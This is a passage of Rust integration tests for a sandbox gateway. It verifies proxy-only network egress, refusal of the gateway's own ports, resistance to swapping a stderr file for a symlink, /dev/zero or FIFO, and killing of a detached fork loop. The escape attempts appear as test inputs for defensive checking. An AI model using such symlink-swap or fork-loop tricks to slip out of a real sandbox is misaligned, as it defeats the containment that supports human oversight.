    assert!(chmod.is_ok_and(|s| s.success()));
    let out = as_ordinary(env!("CARGO_BIN_EXE_aai-gateway"))
        .arg("stop")
        .env("AAI_HOME", &home)
        .env_remove("AAI_CONFIG")
        .stdin(std::process::Stdio::null())
        .output()
        .expect("stop");
    let text = format!("{out:?}");
    assert!(out.status.success(), "{text}");
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("by the stop marker"),
        "{text}"
    );
    assert!(aai_engine::control::marker(&home).is_some(), "{text}");
}

/// A static file server on 127.0.0.1 (what `git clone` over dumb HTTP needs), answering
/// until the test ends; its port.
fn file_server(root: PathBuf) -> u16 {
    use std::io::{BufRead as _, Write as _};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let root = root.clone();
            std::thread::spawn(move || {
                let mut reader = std::io::BufReader::new(&stream);
                let mut line = String::new();
                if reader.read_line(&mut line).is_err() {
                    return;
                }
                let path = line.split(' ').nth(1).unwrap_or("/").to_owned();
                let path = path
                    .split('?')
                    .next()
                    .unwrap_or("/")
                    .trim_start_matches('/')
                    .to_owned();
                let mut rest = String::new();
                while reader.read_line(&mut rest).is_ok_and(|n| n > 2) {
                    rest.clear();
                }
                let mut out = &stream;
                match std::fs::read(root.join(&path)) {
                    Ok(body) if !path.contains("..") => {
                        let _ = write!(
                            out,
                            "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                            body.len()
                        );
                        let _ = out.write_all(&body);
                    }
                    _ => {
                        let _ = write!(
                            out,
                            "HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
                        );
                    }
                }
            });
        }
    });
    port
}

/// The box reaches the network only through the gateway's proxy: a service on this
/// computer's loopback is out of reach directly and through the proxy until the config names
/// it; named, `curl` and `git clone` reach it and the command's result says so; the gateway's
/// own ports are refused even when named; with `local.egress.mode` "open" the network is as
/// it was.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_network_is_reached_only_through_the_gateways_proxy() {
    let _serial = SERIAL.lock().await;
    let served = tempfile::tempdir().expect("served");
    std::fs::write(served.path().join("hello.txt"), "hello from loopback").expect("file");
    // A bare repository served over dumb HTTP.
    let repo = served.path().join("repo.git");
    let git = |args: &[&str], dir: &Path| {
        let out = std::process::Command::new("git")
            .args(args)
            .current_dir(dir)
            .output()
            .expect("git");
        assert!(out.status.success(), "{args:?}: {out:?}");
    };
    let work = served.path().join("src");
    std::fs::create_dir_all(&work).expect("src");
    git(&["init", "-q"], &work);
    std::fs::write(work.join("README"), "cloned").expect("readme");
    git(&["add", "README"], &work);
    git(
        &[
            "-c",
            "user.name=a",
            "-c",
            "user.email=a@b",
            "commit",
            "-q",
            "-m",
            "one",
        ],
        &work,
    );
    git(
        &[
            "clone",
            "-q",
            "--bare",
            &work.to_string_lossy(),
            &repo.to_string_lossy(),
        ],
        served.path(),
    );
    git(&["update-server-info"], &repo);
    let port = file_server(served.path().to_path_buf());
    let url = format!("http://127.0.0.1:{port}");
    let probe = format!(
        "curl -s -m 5 {url}/hello.txt; echo; curl -s -m 5 --noproxy '*' {url}/hello.txt && echo DIRECT; echo"
    );

    for mode in MODES {
        // Not named: refused by the proxy, unreachable directly.
        let s = boxed(mode, json!({}));
        let out = bash(&s, &probe).await;
        assert!(
            !out.to_string().contains("hello from loopback"),
            "{mode:?}: {out}"
        );
        assert!(
            out["network"]["refused"]
                .to_string()
                .contains(&format!("{port}")),
            "{mode:?}: {out}"
        );

        // Named: reached through the proxy (and only through it), and said so.
        let s = boxed(
            mode,
            json!({"local": {"egress": {"allow": [format!("127.0.0.1:{port}")]}}}),
        );
        let out = bash(&s, &probe).await;
        assert!(
            stdout(&out).starts_with("hello from loopback"),
            "{mode:?}: {out}"
        );
        assert!(!stdout(&out).contains("DIRECT"), "{mode:?}: {out}");
        assert_eq!(
            out["network"]["reached"],
            json!([format!("127.0.0.1:{port}")]),
            "{mode:?}"
        );
        let clone = bash(
            &s,
            &format!(
                "git clone -q {url}/repo.git {}/clone && cat {}/clone/README",
                s.p("work"),
                s.p("work")
            ),
        )
        .await;
        assert_eq!(stdout(&clone), "cloned", "{mode:?}: {clone}");

        // The gateway's own listener is refused by every name, named or not.
        let own = std::net::TcpListener::bind("127.0.0.1:0").expect("own");
        let own_port = own.local_addr().expect("addr").port();
        let _registered = aai_contain::own_listeners::register(own.local_addr().expect("addr"));
        let s = boxed(
            mode,
            json!({"local": {"egress": {"allow": [format!("127.0.0.1:{own_port}"), format!("localhost:{own_port}")]}}}),
        );
        let out = bash(
            &s,
            &format!("curl -s -m 5 -o /dev/null -w '%{{http_code}}' http://localhost:{own_port}/"),
        )
        .await;
        assert_eq!(stdout(&out), "403", "{mode:?}: {out}");
    }

    // "open": the network as it is.
    let s = boxed(
        Mode::FullAuto,
        json!({"local": {"egress": {"mode": "open"}}}),
    );
    let out = bash(&s, &probe).await;
    assert!(stdout(&out).contains("DIRECT"), "{out}");
    assert!(out.get("network").is_none(), "{out}");
}

/// What the gateway reads back from the box (a command's stderr file) is read as a plain file:
/// a command that swaps it for a link to a file outside, to `/dev/zero` or for a FIFO gets
/// nothing of them back, and the gateway answers at once.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_stderr_file_cannot_be_swapped_for_a_link_out_of_the_box() {
    let _serial = SERIAL.lock().await;
    let s = boxed(Mode::FullAuto, json!({}));
    let outside = s.p("outside/keep.txt");
    for swap in [
        format!("ln -s {outside} \"$f\""),
        "ln -s /dev/zero \"$f\"".to_owned(),
        "mkfifo \"$f\"".to_owned(),
    ] {
        let started = Instant::now();
        let out = bash(
            &s,
            &format!("f=$(readlink /proc/self/fd/2); rm -f \"$f\"; {swap}"),
        )
        .await;
        assert!(!out.to_string().contains(KEEP), "`{swap}`: {out}");
        assert!(
            started.elapsed() < Duration::from_secs(15),
            "`{swap}` held the gateway"
        );
        // The session still answers.
        let next = bash(&s, "echo next").await;
        assert!(stdout(&next).contains("next"), "{next}");
    }
}

/// The launcher's own stop, for an ordinary user (no cgroup to kill by, nothing else of the
/// gateway's sweeping): SIGTERM ends the command's whole Landlock domain at once, so a
/// fork-and-exit loop that left the session and its parent is gone with it. Without the
/// domain kill the loop would outlive the launcher (it is reparented, not a child any more).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_launchers_stop_ends_a_fork_loop_that_left_it() {
    let _serial = SERIAL.lock().await;
    let marker = format!("aai-user-fork-loop-{}", std::process::id());
    ordinary_launcher_ends_a_fork_loop(&marker, "SIGTERM", |pid| {
        aai_contain::procs::signal(pid, aai_contain::procs::TERMINATE);
    })
    .await;
}

/// A launcher killed outright (SIGKILL: no stop of its own runs) still ends its command's
/// domain: its second stage follows the first, and a loop that forks and exits outside every
/// session is gone with it — whoever kills a launcher, nothing it holds escapes.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_launcher_killed_outright_still_ends_its_command() {
    let _serial = SERIAL.lock().await;
    let marker = format!("aai-killed-fork-loop-{}", std::process::id());
    ordinary_launcher_ends_a_fork_loop(&marker, "SIGKILL", |pid| {
        aai_contain::procs::kill(pid);
    })
    .await;
}

/// Starts a fork loop under a launcher as an ordinary user, sends the launcher `signal` (by
/// `send`), and checks that nothing of the loop is left once the launcher's stages are gone.
async fn ordinary_launcher_ends_a_fork_loop(marker: &str, signal: &str, send: fn(u32)) {
    let _sweep = Sweep(marker.to_owned());
    let dir = owned_dir();
    let home = dir.path().join("home");
    let work = dir.path().join("work");
    for folder in [&home, &work] {
        let made = as_ordinary("mkdir").arg("-p").arg(folder).status();
        assert!(made.is_ok_and(|s| s.success()), "{}", folder.display());
    }
    let forker = fork_loop(marker);
    let mut launcher = as_ordinary(env!("CARGO_BIN_EXE_aai-gateway"))
        .args(["__contain", "--temp", "/tmp", "--home"])
        .arg(&home)
        .arg("--write")
        .arg(&work)
        .args(["--", "/bin/sh", "-c"])
        .arg(format!(
            "setsid env -i perl -e '{forker}' </dev/null >/dev/null 2>&1 & sleep 100"
        ))
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::null())
        .spawn()
        .expect("launcher");
    until("the loop runs", || looping(marker)).await;
    // The launcher itself (setpriv execs it: the same pid), and its second stage.
    let first = launcher.id();
    let stages: Vec<u32> = aai_contain::procs::descendants(first)
        .into_iter()
        .chain([first])
        .filter(|pid| {
            std::fs::read(format!("/proc/{pid}/cmdline")).is_ok_and(|line| {
                line.split(|b| *b == 0).nth(1) == Some(aai_contain::MARKER.as_bytes())
            })
        })
        .collect();
    send(first);
    let _ = tokio::task::spawn_blocking(move || launcher.wait()).await;
    // However slowly a busy machine schedules them, the stages end within their own bound.
    let until = Instant::now() + aai_contain::procs::LAUNCHER_ENDS_WITHIN * 2;
    while stages.iter().any(|pid| aai_contain::procs::alive(*pid)) {
        assert!(
            Instant::now() < until,
            "the launcher's stages are still there"
        );
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    for _ in 0..20 {
        let left = with_marker(marker);
        assert!(
            left.is_empty(),
            "alive after the launcher ended ({signal}): {left:?}"
        );
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
}
